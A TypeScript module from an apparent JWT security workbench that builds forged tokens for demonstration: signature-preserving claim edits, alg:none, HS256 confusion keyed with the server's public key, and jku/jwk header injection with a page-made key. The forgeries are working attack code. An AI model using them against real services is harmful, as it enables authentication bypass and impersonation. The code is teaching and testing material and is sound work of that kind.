// The token workbench's attacks on a real access token, as someone who has
// read RFC 8725 (JWT Best Current Practices) would try them. Six are forged
// in the page, with nothing but what any holder of the token has (and, for
// one, the server's published public key); three are signed by the issuer
// itself (POST /api/scenarios/flawed-tokens), because editing `exp`, `aud`
// or `typ` breaks the signature before those checks are ever reached.
import { CompactSign, exportJWK, exportSPKI, generateKeyPair, importJWK, type CryptoKey, type JWK } from "jose";
import type { Json } from "@/lib/json";
import type { FlawedTokens as FlawedTokensSigned } from "@/lib/showcase/flawed-tokens";
import { decodeJwt, encodePart, type DecodedJwt } from "../jwt-decode";

export type AttackId =
  | "claim-edit"
  | "alg-none"
  | "hs256-public-key"
  | "foreign-kid"
  | "jku"
  | "jwk"
  | "expired"
  | "wrong-audience"
  | "wrong-type";

export type Attack = { id: AttackId; title: string; how: string; signedBy: "page" | "issuer" };

export const ATTACKS: Attack[] = [
  {
    id: "claim-edit",
    title: "Edit a claim, keep the signature",
    how: "sub becomes someone else's id; the signature is the original one.",
    signedBy: "page",
  },
  {
    id: "alg-none",
    title: "alg: none",
    how: "The header says the token is unsigned, and the signature is empty (RFC 7519 §6).",
    signedBy: "page",
  },
  {
    id: "hs256-public-key",
    title: "HS256 with the public key as secret",
    how: "Algorithm confusion: an HMAC keyed with the server's published key as PEM text (jose's, with no final newline), for a verifier that lets the token choose the algorithm.",
    signedBy: "page",
  },
  {
    id: "foreign-kid",
    title: "A key of the attacker's, a foreign kid",
    how: "Signed with a key this page just made, under a kid the server never published.",
    signedBy: "page",
  },
  {
    id: "jku",
    title: "jku header injection",
    how: "The header points to the attacker's key set (jku), for a verifier that fetches keys from where the token says. (Its address is under .invalid, so no verifier could fetch it here.)",
    signedBy: "page",
  },
  {
    id: "jwk",
    title: "jwk header injection",
    how: "The header carries the attacker's public key (jwk), for a verifier that trusts the key the token brings.",
    signedBy: "page",
  },
  {
    id: "expired",
    title: "Expired",
    how: "Signed by this issuer, exp ten minutes ago: shows the expiry check itself.",
    signedBy: "issuer",
  },
  {
    id: "wrong-audience",
    title: "Wrong aud",
    how: "Signed by this issuer for another API (https://wrong-audience.invalid).",
    signedBy: "issuer",
  },
  {
    id: "wrong-type",
    title: "Wrong typ",
    how: 'Signed by this issuer with typ "JWT", not "at+jwt" (RFC 9068): what an ID token would look like.',
    signedBy: "issuer",
  },
];

// What the issuer-signed attacks come from (the endpoint's answer).
export type FlawedTokens = Json<FlawedTokensSigned>;
const FLAW: Record<Extract<AttackId, "expired" | "wrong-audience" | "wrong-type">, keyof FlawedTokens> = {
  expired: "expired",
  "wrong-audience": "wrong_audience",
  "wrong-type": "wrong_type",
};

export type AttackerKey = { privateKey: CryptoKey; publicJwk: JWK };
export const ATTACKER_KID = "attacker-key";
export const ATTACKER_JKU = "https://attacker.invalid/jwks.json";

export async function createAttackerKey(): Promise<AttackerKey> {
  if (!globalThis.crypto?.subtle)
    throw new Error("Making a key needs Web Crypto, which browsers offer only over https or on localhost.");
  const { privateKey, publicKey } = await generateKeyPair("ES256");
  return { privateKey, publicJwk: { ...(await exportJWK(publicKey)), kid: ATTACKER_KID, alg: "ES256" } };
}

const bytes = (text: string) => new TextEncoder().encode(text);

async function signed(decoded: DecodedJwt, header: Record<string, unknown>, key: CryptoKey | Uint8Array) {
  return new CompactSign(bytes(JSON.stringify(decoded.payload)))
    .setProtectedHeader(header as { alg: string })
    .sign(key);
}

// The server's public key as PEM text: the "secret" of the HS256 confusion.
export async function publicKeyPem(jwk: JWK): Promise<string> {
  return exportSPKI((await importJWK(jwk, jwk.alg)) as CryptoKey);
}

export type AttackInputs = {
  token: string;
  // The page's own key, for the attacks it signs (foreign kid, jku, jwk).
  attackerKey: AttackerKey | null;
  // The key, in this server's JWKS, that the token's kid names.
  serverKey: JWK | null;
  flawed: FlawedTokens | null;
};

export async function buildAttack(id: AttackId, inputs: AttackInputs): Promise<string> {
  const decoded = decodeJwt(inputs.token);
  if (!decoded) throw new Error("Not a JWT: three base64url parts, header and payload JSON.");
  const { header, parts } = decoded;
  const attacker = () => {
    if (!inputs.attackerKey) throw new Error("This attack is signed with a key of the page's own.");
    return inputs.attackerKey.privateKey;
  };
  switch (id) {
    case "claim-edit":
      return `${parts[0]}.${encodePart({ ...decoded.payload, sub: "someone-else" })}.${parts[2]}`;
    case "alg-none":
      return `${encodePart({ ...header, alg: "none" })}.${parts[1]}.`;
    case "hs256-public-key": {
      if (!inputs.serverKey) throw new Error("This server's JWKS has no key with the token's kid.");
      return signed(decoded, { ...header, alg: "HS256" }, bytes(await publicKeyPem(inputs.serverKey)));
    }
    case "foreign-kid":
      return signed(decoded, { ...header, alg: "ES256", kid: ATTACKER_KID }, attacker());
    case "jku":
      return signed(decoded, { ...header, alg: "ES256", kid: ATTACKER_KID, jku: ATTACKER_JKU }, attacker());
    case "jwk":
      return signed(
        decoded,
        { ...header, alg: "ES256", kid: ATTACKER_KID, jwk: inputs.attackerKey?.publicJwk },
        attacker(),
      );
    case "expired":
    case "wrong-audience":
    case "wrong-type": {
      if (!inputs.flawed) throw new Error("Only the issuer can sign these, and it did not.");
      return inputs.flawed[FLAW[id]];
    }
  }
}
